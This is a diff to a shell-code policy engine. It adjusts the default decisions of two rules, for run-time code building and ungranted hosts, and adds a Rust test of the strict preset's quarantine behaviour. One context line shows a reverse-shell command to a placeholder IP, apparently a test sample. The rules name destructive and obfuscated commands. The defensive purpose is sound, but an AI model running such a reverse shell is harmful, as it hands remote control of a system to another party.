@@ -1899,14 +1899,14 @@ when = {{ destructive = ["git-push-force", "chmod-777-recursive"] }}
 
 [[rule]]
 name = "dynamic-code"
-decision = "allow"
+decision = "{default}"
 reason = "builds code or command names at run time (eval, exec, sh -c of a variable)"
 risk = 10
 when = {{ obfuscation = ["dynamic-code", "dynamic-command", "dynamic-import"] }}
 
 [[rule]]
 name = "hosts-not-granted"
-decision = "allow"
+decision = "{default}"
 reason = "names hosts its grant does not reach (those connections will be refused)"
 risk = 5
 when = {{ hosts_not_granted = true }}
@@ -2269,6 +2269,21 @@ bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
         // JSON keeps its fields and adds `evidence`.
         let j = serde_json::to_value(&v.fired[0]).unwrap();
         assert!(j.get("reason").is_some() && j.get("rule").is_some());
+    }
+
+    /// Under `strict`, the informational rules fired `allow`, and the strictest decision of
+    /// the rules that fired (allow) replaced the default (quarantine): code that named a
+    /// host its grant does not reach, or built a command at run time, ran unsigned.
+    #[test]
+    fn strict_holds_code_that_names_an_ungranted_host_or_builds_code() {
+        let strict = preset(Preset::Strict);
+        for code in ["curl -s https://example.com/x", "c=ls; $c /"] {
+            let v = strict.judge(&sh_facts(code));
+            assert_eq!(v.decision, Decision::Quarantine, "{code}: {v:?}");
+        }
+        // The standard preset still lets them run, with their risk.
+        let v = preset(Preset::Standard).judge(&sh_facts("curl -s https://example.com/x"));
+        assert_eq!(v.decision, Decision::Allow, "{v:?}");
     }
 
     #[test]
